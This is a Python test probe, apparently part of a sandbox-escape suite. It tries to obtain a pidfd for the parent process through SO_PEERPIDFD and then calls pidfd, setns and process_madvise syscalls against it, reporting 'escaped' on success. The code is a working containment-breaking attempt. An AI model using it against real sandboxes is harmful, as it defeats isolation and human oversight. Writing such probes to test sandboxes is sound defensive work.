# Attempts: get a descriptor of the parent from its own channel (SO_PEERPIDFD), and act through it.

def attack(world):
    import ctypes, os, select, signal, socket
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    own = socket.socket(fileno=os.dup(3))
    done = []
    for option in (77, 59, 31, 34, 17, 33):
        try:
            told = own.getsockopt(socket.SOL_SOCKET, option, 256)
        except OSError:
            continue
        print(option, told[:32])
        if option == 77:
            handle = int.from_bytes(told[:4], "little")
            for number, arguments in ((424, (handle, 0, 0, 0)), (438, (handle, 0, 0)), (308, (handle, 0x40000000)), (440, (handle, 0, 0, 20, 0)), (247, (3, handle, 0, 1, 0)), (434, (os.getppid(), 0))):
                if libc.syscall(number, *arguments) >= 0:
                    done.append(number)
    if done:
        return "escaped", done
